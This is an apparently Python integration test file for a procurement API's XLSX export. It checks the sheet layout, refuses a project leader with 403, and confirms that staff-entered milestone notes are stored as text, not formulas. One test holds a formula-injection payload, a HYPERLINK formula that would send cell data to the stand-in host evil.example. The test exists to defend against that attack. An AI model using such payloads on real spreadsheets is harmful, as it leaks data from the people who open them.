"""The staff's XLSX export of projects, lots and milestones through the API."""

import io

from openpyxl import load_workbook

from tests.integration.procurement.conftest import make_lot


async def test_staff_export_projects_lots_and_milestones_as_xlsx(winners):
    lot = await make_lot(winners, winners.projects[0]["id"])
    response = await winners.client.get(
        "/api/v1/projects.xlsx", params={"round": winners.world.round_id}, headers=winners.staff
    )
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Projects", "Lots", "Milestones"]
    assert workbook["Projects"].max_row == 3
    assert workbook["Lots"].cell(row=2, column=1).value == lot["id"]
    assert workbook["Milestones"].max_row == 1 + 2 * 7
    refused = await winners.client.get("/api/v1/projects.xlsx", headers=winners.leader[winners.projects[0]["id"]])
    assert refused.status_code == 403


async def test_what_staff_typed_reaches_the_workbook_as_text_never_as_a_formula(winners):
    project_id = winners.projects[0]["id"]
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Деталі")'
    response = await winners.client.put(
        f"/api/v1/projects/{project_id}/milestones/terms_of_reference",
        json={"status": "met", "date_met": "2026-01-15", "note": hostile},
        headers=winners.staff,
    )
    assert response.status_code == 200, response.text
    bell = await winners.client.put(
        f"/api/v1/projects/{project_id}/milestones/staff_trained",
        json={"status": "partiallyMet", "date_met": "2026-01-20", "value": 4, "note": "@SUM(1)\x07 дзвінок"},
        headers=winners.staff,
    )
    assert bell.status_code == 200, bell.text
    exported = await winners.client.get(
        "/api/v1/projects.xlsx", params={"round": winners.world.round_id}, headers=winners.staff
    )
    assert exported.status_code == 200
    sheet = load_workbook(io.BytesIO(exported.content))["Milestones"]
    notes = {cell.value: cell for row in sheet.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)}
    assert notes[hostile].data_type == "s"
    bell_cell = next(cell for text, cell in notes.items() if text.startswith("@SUM(1)"))
    assert bell_cell.data_type == "s"
    assert bell_cell.value.startswith("@SUM(1)\ufffd дзвінок")
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
